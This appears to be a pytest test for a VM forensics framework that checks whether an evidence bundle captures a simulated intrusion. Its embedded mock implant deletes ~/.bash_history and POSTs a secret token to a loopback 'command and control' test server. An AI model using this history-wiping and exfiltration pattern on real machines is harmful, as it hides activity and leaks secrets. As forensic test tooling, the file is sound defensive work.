"""Ground truth from the hypervisor: a program in the guest writes a file, deletes
another and phones home; the test checks the file-system diff, the network capture and
the memory dump of one evidence bundle (walked through in docs/forensics.md)."""

from __future__ import annotations

import http.server
import json
import secrets
import threading
from collections.abc import Iterator
from pathlib import Path

import dpkt
import pytest

from pytest_adare.forensics.evidence_bundle import verify_bundle
from pytest_adare.guest import Guest
from pytest_adare.vm import VM

PROGRAM = """
import os, sys, time, urllib.request
secret = bytes.fromhex(sys.argv[2]).decode()        # the raw secret exists only in RAM
os.makedirs("/home/user/loot", exist_ok=True)
with open("/home/user/loot/stolen.txt", "w") as out:
    out.write("account list\\n")
os.remove("/home/user/.bash_history")
urllib.request.urlopen(urllib.request.Request(sys.argv[1], data=secret.encode(), method="POST"))
print("done", flush=True)
time.sleep(3600)                                    # stays resident, holding the secret
"""


@pytest.fixture
def home_server() -> Iterator[tuple[int, list[bytes]]]:
    """The 'command and control' server: loopback only, reached from the guest at 10.0.2.2."""
    received: list[bytes] = []

    class Beacon(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            received.append(self.rfile.read(min(int(self.headers["Content-Length"]), 4096)))
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Beacon)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], received
    server.shutdown()
    server.server_close()


def posted_bodies(pcap: Path) -> list[bytes]:
    """Payloads of the guest's TCP segments that start an HTTP POST, and what follows."""
    payloads = []
    with pcap.open("rb") as stream:
        for _, frame in dpkt.pcap.Reader(stream):
            ip = dpkt.ethernet.Ethernet(frame).data
            if isinstance(ip, dpkt.ip.IP) and isinstance(ip.data, dpkt.tcp.TCP) and ip.data.data:
                payloads.append(bytes(ip.data.data))
    return payloads


def test_program_writes_deletes_and_phones_home(
    guest: Guest, adare_vm: VM, adare_artifacts: Path, home_server: tuple[int, list[bytes]]
) -> None:
    port, received = home_server
    secret = f"TOKEN-{secrets.token_hex(12)}"
    guest.shell("mkdir -p /home/user && echo 'ls -la' > /home/user/.bash_history").check()
    guest.shell(f"cat > /root/implant.py <<'EOF'\n{PROGRAM}\nEOF").check()
    before = guest.fs_snapshot("/home", hash=True)

    with adare_vm.network_capture(adare_artifacts / "scenario.pcap"):
        guest.shell(
            f"setsid python3 /root/implant.py http://10.0.2.2:{port}/beacon "
            f"{secret.encode().hex()} > /root/implant.out 2>&1 &"
        ).check()
        guest.wait_until_succeeds("grep -q done /root/implant.out", timeout=30)
        diff = guest.fs_snapshot("/home", hash=True).diff(before)
        manifest = adare_vm.collect_evidence(adare_artifacts / "bundle", fs_diff=diff)

    bundle = adare_artifacts / "bundle"
    assert diff.created == {"/home/user/loot", "/home/user/loot/stolen.txt"}
    assert diff.deleted == {"/home/user/.bash_history"}
    assert received == [secret.encode()]
    assert any(secret.encode() in data for data in posted_bodies(bundle / "network.pcap"))
    assert secret.encode() in (bundle / "memory.elf").read_bytes()
    assert verify_bundle(bundle) == []
    assert json.loads((bundle / "manifest.json").read_text()) == manifest
